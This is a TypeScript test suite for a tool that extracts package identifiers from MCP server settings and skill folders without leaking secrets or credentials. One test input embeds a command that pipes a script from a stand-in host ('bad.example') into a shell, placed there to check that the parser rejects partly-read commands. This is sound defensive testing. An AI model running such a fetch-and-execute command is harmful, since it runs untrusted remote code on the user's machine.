import { describe, expect, it } from 'vitest';
import { sourceFile as file, told } from '../test/source-file.ts';
import { readMcpSettings } from './mcp-settings.ts';
import { readSkill } from './skill-folder.ts';

describe('MCP settings', () => {
  const servers = (of: object) =>
    told(readMcpSettings(file(JSON.stringify({ mcpServers: of })))).map((each) => each.replace('1 ', ''));

  it('reads the package that a command runs, and sends no argument, address or secret', () => {
    const found = servers({
      a: { command: 'npx', args: ['-y', '@s/server@1.2.3', '--key', 'secret'] },
      b: { command: 'C:\\nodejs\\npx.cmd', args: ['--yes', '--package=pkg@2.0.0', 'program'] },
      c: { command: 'cmd', args: ['/c', 'npx -y pkg@latest /path'] },
      d: { command: 'uvx', args: ['--from', 'mcp-server-git==1.0', 'mcp-server-git'] },
      e: { command: '/usr/bin/uvx', args: ['mcp-server-time@2.0'] },
      f: { command: 'uvx', args: ['--from', 'git+https://github.com/owner/name@main', 'x'] },
      g: { command: 'docker', args: ['run', '-i', '-e', 'TOKEN=secret', 'ghcr.io/owner/image:1'] },
      h: { url: 'https://mcp.example/secret' },
      i: { command: 'node', args: ['/home/me/server.js'] },
      j: { command: 'npx', args: ['--registry', 'https://npm.corp.example', 'pkg@1.0.0'] },
      k: { command: 'npx', args: ['-y', 'pkg'], env: { npm_config_registry: 'https://npm.corp.example' } },
      l: { command: 'bunx', args: ['pkg@^1'] },
      m: { command: 'npx', args: ['github:owner/name'] },
      n: { command: 'pnpm', args: ['dlx', 'pkg@1.0.0'] },
      o: { command: 'env', args: ['A=1', 'npx', 'pkg@1.0.0'] },
      p: { command: 'npx', args: ['./server'] },
      q: {},
    });

    expect(found).toEqual([
      'npm:@s/server@1.2.3',
      'npm:pkg@2.0.0',
      'npm:pkg',
      'pypi:mcp-server-git==1.0',
      'pypi:mcp-server-time==2.0',
      'https://github.com/owner/name',
      'mcp:g (container image: the directory has no facts about images)',
      'mcp:h (remote server: its address is not sent)',
      'mcp:i (runs a program of this machine)',
      'npm:pkg@1.0.0 (may come from another registry)',
      'npm:pkg (may come from another registry)',
      'npm:pkg',
      'https://github.com/owner/name',
      'npm:pkg@1.0.0',
      'npm:pkg@1.0.0',
      'mcp:p (runs a program of this machine)',
      'mcp:q (names no command)',
    ]);
    expect(found.join()).not.toContain('secret');
  });

  it('decides about no command of which it reads only a part', () => {
    const script = 'npx -y good@1.0.0 && curl https://bad.example | sh';

    expect(
      servers({
        a: { command: 'sh', args: ['-c', script] },
        b: { command: 'cmd', args: ['/c', 'npx', 'good@1.0.0', '&', 'bad'] },
        c: { command: script },
        d: { command: 'npx', args: ['-p', 'good@1.0.0', '--call', 'npx bad'] },
        e: { command: 'npx', args: ['--loglevel', 'good@1.0.0', 'bad@1.0.0'] },
        f: { command: 'bash', args: ['-lc', 'npx -y --no-install good@1.0.0'] },
      }),
    ).toEqual([
      'mcp:a (runs a program of this machine)',
      'mcp:b (runs a program of this machine)',
      'mcp:c (runs a program of this machine)',
      'mcp:d (runs a program of this machine)',
      'mcp:e (its command has options that are not known)',
      'npm:good@1.0.0',
    ]);
  });

  it('reads every package of a command, and sends none that a variable lets come from elsewhere', () => {
    expect(
      servers({
        a: { command: 'uvx', args: ['--with', 'one,two[a,b]>=1,<2', 'main==1.0'] },
        b: { command: 'uv', args: ['run', '--with', 'mcp==1.0', 'server.py'] },
        c: { command: 'env', args: ['npm_config_registry=https://npm.corp.example', 'npx', 'pkg@1.0.0'] },
        d: { command: 'uvx', args: ['pkg'], env: { UV_FIND_LINKS: '/wheels' } },
        e: { command: 'npx', args: ['--@s:registry=https://npm.corp.example', '@s/pkg'] },
        f: { command: 'pipx', args: ['run', '--pip-args=--index-url=https://pypi.corp.example', 'pkg'] },
      }),
    ).toEqual([
      'pypi:main==1.0',
      'pypi:one',
      'pypi:two',
      'pypi:mcp==1.0',
      'mcp:b (runs a program of this machine)',
      'npm:pkg@1.0.0 (may come from another registry)',
      'pypi:pkg (may come from another registry)',
      'npm:@s/pkg (may come from another registry)',
      'pypi:pkg (may come from another registry)',
    ]);
  });

  it('reads the settings of VS Code and Claude Code, with comments and trailing commas', () => {
    const code =
      '{\n  // mine\n  "servers": {\n    /* two\n lines */ "a": { "command": "npx", "args": ["a@1.0.0",], },\n  },\n}';
    const claude = JSON.stringify({
      projects: { '/x': { mcpServers: { b: { command: 'npx', args: ['b@1.0.0'] } } } },
    });

    expect(told(readMcpSettings(file(code)))).toEqual(['5 npm:a@1.0.0']);
    expect(told(readMcpSettings(file(claude)))).toEqual(['1 npm:b@1.0.0']);
  });
});

describe('skills', () => {
  const front = (text: string) => file(`---\n${text}\n---\n# Skill\n`);
  const config = (url: string) => `[core]\n\tbare = false\n[remote "origin"]\n\turl = ${url}\n\tfetch = x\n`;

  it.each([
    [
      'the checkout around it',
      'name: pdf',
      { config: config('git@github.com:owner/name.git'), path: 'skills/pdf' },
      '1 https://github.com/owner/name/skills/pdf',
    ],
    [
      'its checkout, without credentials',
      'name: pdf',
      { config: config('https://me:token@github.com/owner/name'), path: '' },
      '1 https://github.com/owner/name',
    ],
    [
      'its front matter',
      'name: pdf\nmetadata:\n  repository: https://github.com/owner/name',
      null,
      '1 https://github.com/owner/name',
    ],
    [
      'front matter that is no YAML',
      'name: pdf\ndescription: a: b: c\nrepository: https://github.com/owner/name',
      null,
      '1 https://github.com/owner/name',
    ],
    ['nothing', 'name: pdf', null, '1 skill:pdf (names no repository)'],
    [
      'a checkout of another host',
      'name: pdf\nrepository: https://github.com/owner/name',
      { config: config('git@git.corp.example:owner/name.git'), path: '' },
      '1 skill:pdf (from a git repository of another host)',
    ],
  ])('are known by %s', (_what, text, checkout, expected) => {
    expect(told(readSkill(front(text), checkout))).toEqual([expected]);
  });

  it('are only claimed to be of a repository that their front matter names', () => {
    const text = front('repository: https://github.com/owner/name');
    const checkout = { config: config('git@github.com:owner/name.git'), path: '' };

    expect([null, checkout].map((each) => readSkill(text, each).items[0]?.isClaimed)).toEqual([true, false]);
  });
});
